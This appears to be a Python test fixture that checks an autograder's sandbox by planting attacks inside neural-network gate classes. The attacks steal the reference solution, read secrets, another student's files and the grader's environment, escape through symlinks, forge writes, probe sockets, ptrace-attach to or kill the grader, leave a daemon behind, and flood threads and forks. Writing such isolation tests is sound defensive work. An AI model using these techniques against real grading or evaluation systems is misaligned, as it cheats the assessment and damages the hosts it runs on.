# ruff: noqa
"""Attacks on the sandbox, one family per item, appended to correct gates and layers.

tests/test_sandbox.py writes a submission made of the reference's gates and layers, a header
of constants (CONFIG: paths, ports and the grader's pid) and this file.  Each item runs its
attack once; if the attack works the item raises with what it got (so it shows up in the
results), else the item computes the right answer and keeps its marks.
"""

import os
import signal
import socket
import sys
import threading
import time

_done = set()


def _once(name):
    if name in _done:
        return False
    _done.add(name)
    return True


def _read(path):
    with open(path) as f:
        return f.read()


class MultiplyGate(MultiplyGate):  # the `from reference import *` trick
    def forward(self, x, y):
        try:
            roots = list(sys.path) + list(sys.argv)
            import bpverify

            roots += [os.path.dirname(p) for p in bpverify.__path__] + [CONFIG["repo"]]
            for root in roots:
                if os.path.isdir(os.path.join(root, "reference")):
                    sys.path.insert(0, root)
                    from reference import MultiplyGate as Stolen

                    self.stolen = Stolen()
                    return self.stolen.forward(x, y)
        except Exception:
            pass
        self.stolen = None
        return x + y  # wrong: only the reference's code would earn the points

    def backward(self, dz):
        return self.stolen.backward(dz) if self.stolen else (dz, dz)


class MaxGate(MaxGate):  # reading what is not the submission's
    def forward(self, x, y):
        if _once("read"):
            stolen = []
            for path in (CONFIG["secret"], CONFIG["other_student"],
                         f"/proc/{CONFIG['grader_pid']}/environ", CONFIG["reference_file"]):
                try:
                    stolen.append(_read(path))
                except OSError:
                    pass
            for make in (os.symlink, os.link):
                try:
                    make(CONFIG["secret"], "escape-" + make.__name__)
                    stolen.append(_read("escape-" + make.__name__))
                except OSError:
                    pass
            if stolen:
                raise ValueError("STOLEN " + " | ".join(stolen))
        return super().forward(x, y)


class ExpGate(ExpGate):  # writing where it must not
    def forward(self, x):
        if _once("write"):
            wrote = []
            for path, mode in ((CONFIG["other_results"], "a"), (CONFIG["pycache_file"], "w"),
                               (CONFIG["outside_file"], "w")):
                try:
                    with open(path, mode) as f:
                        f.write("FORGED")
                    wrote.append(path)
                except OSError:
                    pass
            if wrote:
                raise ValueError("WROTE " + " | ".join(wrote))
        return super().forward(x)


class ReciprocalGate(ReciprocalGate):  # the network and unix sockets
    def forward(self, x):
        if _once("net"):
            reached = []
            for family, kind, address in (
                (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", CONFIG["tcp_port"])),
                (socket.AF_UNIX, socket.SOCK_STREAM, CONFIG["unix_path"]),
                (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + CONFIG["abstract_name"]),
            ):
                try:
                    with socket.socket(family, kind) as s:
                        s.settimeout(1.0)
                        s.connect(address)
                        s.sendall(b"ESCAPED")
                    reached.append(str(address))
                except OSError:
                    pass
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.sendto(b"ESCAPED", ("127.0.0.1", CONFIG["udp_port"]))
            except OSError:
                pass
            if reached:
                raise ValueError("REACHED " + " | ".join(reached))
        return super().forward(x)


class AddConstGate(AddConstGate):  # ptrace and signals to the grader
    def forward(self, x):
        if _once("ptrace"):
            import ctypes

            libc = ctypes.CDLL(None, use_errno=True)
            for pid in (CONFIG["grader_pid"], os.getppid()):
                if pid > 0 and libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
                    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
                    raise ValueError(f"ATTACHED to {pid}")
            try:
                os.kill(CONFIG["grader_pid"], signal.SIGSTOP)  # stop the grader
                os.kill(CONFIG["grader_pid"], signal.SIGCONT)
                raise ValueError("SIGNALLED the grader")
            except OSError:
                pass
        return super().forward(x)


class ScaleGate(ScaleGate):  # kill the parent: the worker may die, the grader must not
    def forward(self, x):
        try:
            os.kill(CONFIG["grader_pid"], signal.SIGKILL)
        except OSError:
            pass
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(0.5)
        return super().forward(x)


class SigmoidGate(SigmoidGate):  # autodiff instead of a backward pass
    def forward(self, x):
        self.x = x
        return super().forward(x)

    def backward(self, dz):
        import jax

        _, vjp = jax.vjp(lambda v: 1 / (1 + jax.numpy.exp(-v)), self.x)
        return vjp(dz)[0]


class SigmoidNeuron(SigmoidNeuron):  # a daemon that outlives the grade
    def forward(self, *args):
        if _once("daemon") and os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(CONFIG["daemon_delay"])
                with open(CONFIG["daemon_file"], "w") as f:
                    f.write("DAEMON")
            os._exit(0)
        return super().forward(*args)


_affine_forward = affine_forward


def affine_forward(x, w, b):  # a thread flood
    if _once("threads"):
        started = 0
        try:
            for _ in range(2000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                started += 1
        except RuntimeError:
            pass
        if started >= 2000:
            raise ValueError(f"FLOOD started {started} threads")
    return _affine_forward(x, w, b)


_relu_backward = relu_backward


def relu_backward(dout, cache):  # a fork flood
    if _once("forks"):
        started = 0
        try:
            for _ in range(2000):
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                started += 1
        except OSError:
            pass
        if started >= 2000:
            raise ValueError(f"FLOOD forked {started} processes")
    return _relu_backward(dout, cache)
